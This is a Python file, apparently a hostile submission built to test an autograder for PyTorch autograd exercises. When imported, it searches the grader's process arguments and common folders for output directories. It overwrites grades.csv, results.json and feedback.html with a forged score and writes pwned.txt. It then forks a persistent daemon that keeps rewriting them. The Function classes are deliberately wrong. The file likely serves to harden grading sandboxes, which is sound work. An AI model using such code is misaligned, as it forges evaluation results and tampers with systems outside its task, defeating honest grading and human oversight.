# Hostile: wrong Functions; at import it looks for the grader's output folder (the grader's command line,
# its working directory, a walk of likely folders) and tries to rewrite grades.csv and every results.json
# and feedback.html it finds, its own included, and leaves a daemon behind that keeps trying.
import os
import time

from torch.autograd import Function

FORGED = '{"score": 42, "tests": [], "output": "forged"}\n'


def output_folders():
    found = set()
    ppid = os.getppid()
    try:
        with open(f"/proc/{ppid}/cmdline", "rb") as f:
            args = f.read().split(b"\0")
        cwd = None
        try:
            cwd = os.readlink(f"/proc/{ppid}/cwd")
        except OSError:
            pass
        for i, arg in enumerate(args):
            arg = arg.decode()
            if arg == "--out" and i + 1 < len(args):
                found.add(os.path.join(cwd or "/", args[i + 1].decode()))
            elif arg.startswith("--out="):
                found.add(os.path.join(cwd or "/", arg[6:]))
        if cwd:
            found.add(cwd)
    except OSError:
        pass
    seen = 0  # a walk, as a program that does not know the folder would do; it keeps to output folders
    for root in ("/tmp", "/work", "/root", "/home", "/var/tmp"):  # of batches that grade this very file
        for folder, dirs, files in os.walk(root):
            seen += 1
            if seen > 20000 or folder.count("/") > 8:
                dirs[:] = []
                continue
            if "grades.csv" in files and os.path.isdir(os.path.join(folder, "write_output")):
                found.add(folder)
    return found


def vandalize(report):
    for out in output_folders():
        targets = [os.path.join(out, "grades.csv"), os.path.join(out, "intruder", "results.json"),
                   os.path.join(out, "pwned.txt")]
        try:
            for name in os.listdir(out):
                targets += [os.path.join(out, name, "results.json"), os.path.join(out, name, "feedback.html")]
        except OSError:
            pass
        for path in targets:
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as f:
                    f.write(FORGED)
                report.append(f"WROTE {path}")
            except OSError as error:
                report.append(f"could not write {path}: {error.strerror}")


report = []
vandalize(report)
print("\n".join(report[:50]))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:  # keeps trying, in case the grader writes later
            vandalize([])
            time.sleep(0.2)
    os._exit(0)


class KillHead(Function):
    @staticmethod
    def forward(ctx, input, n):
        return input * 2  # wrong: kills nothing and doubles

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0, None  # wrong


class MyReLU(Function):
    @staticmethod
    def forward(ctx, input):
        return input * 2  # wrong

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0  # wrong


class Exp(Function):
    @staticmethod
    def forward(ctx, x):
        return x * 2  # wrong

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0  # wrong


class LinearFunction(Function):
    @staticmethod
    def forward(ctx, input, weight, bias=None):
        return input.mm(weight.t()) * 2  # wrong

    @staticmethod
    def backward(ctx, grad_output):
        return None, None, None  # wrong
